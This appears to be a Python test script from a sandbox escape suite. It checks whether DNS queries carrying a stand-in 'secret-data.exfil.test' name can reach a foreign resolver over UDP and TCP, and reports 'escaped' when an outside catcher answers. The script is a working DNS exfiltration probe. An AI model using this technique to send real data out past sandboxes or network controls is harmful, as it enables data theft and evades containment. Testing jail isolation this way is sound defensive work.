#!/usr/bin/env python3
"""Escape attempt: data smuggled in DNS queries (TXT for
secret-data.exfil.test) sent straight to a foreign resolver, over UDP and
over TCP.

usage: dns_exfil.py ADDR
Escaped if the foreign catcher answers.  Under nsjail the jail's dummy DNS
may answer instead (reported as "dns answer ..."), which is fine: it never
forwards.
"""
import os
import socket
import struct
import sys

import common

QNAME = "secret-data.exfil.test"


def query(qid):
    head = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    name = b"".join(bytes([len(lb)]) + lb.encode() for lb in QNAME.split("."))
    return head + name + b"\0" + struct.pack(">HH", 16, 1)


def describe(data, qid):
    if common.MARK in data:
        return True, "the catcher answered"
    if len(data) >= 12:
        rid, flags, _, an = struct.unpack(">HHHH", data[:8])
        if rid == qid and flags & 0x8000:
            return False, "dns answer rcode=%d answers=%d (not the catcher)" % (
                flags & 0xf, an)
    if data:
        return False, "a reply without the marker (%d bytes)" % len(data)
    return False, "sent; no reply"


def over_udp(addr):
    qid = int.from_bytes(os.urandom(2), "big")
    try:
        s = socket.socket(common.family(addr), socket.SOCK_DGRAM)
        s.settimeout(1.5)
        s.sendto(query(qid), (addr, 53))
    except OSError as e:
        return False, "udp: " + common.errname(e)
    try:
        data = s.recv(4096)
    except OSError:
        data = b""
    return describe(data, qid)


def over_tcp(addr):
    qid = int.from_bytes(os.urandom(2), "big")
    q = query(qid)
    try:
        s = socket.socket(common.family(addr), socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((addr, 53))
        s.sendall(struct.pack(">H", len(q)) + q)
    except OSError as e:
        return False, "tcp: " + common.errname(e)
    data = b""
    s.settimeout(1.5)
    try:
        while len(data) < 2 or len(data) < 2 + struct.unpack(">H", data[:2])[0]:
            if common.MARK in data:
                break
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    if common.MARK in data:
        return True, "the catcher answered"
    return describe(data[2:], qid)


def main(argv):
    addr = argv[0]
    common.run([("dns/udp " + addr, lambda: over_udp(addr)),
                ("dns/tcp " + addr, lambda: over_tcp(addr))])


if __name__ == "__main__":
    main(sys.argv[1:])
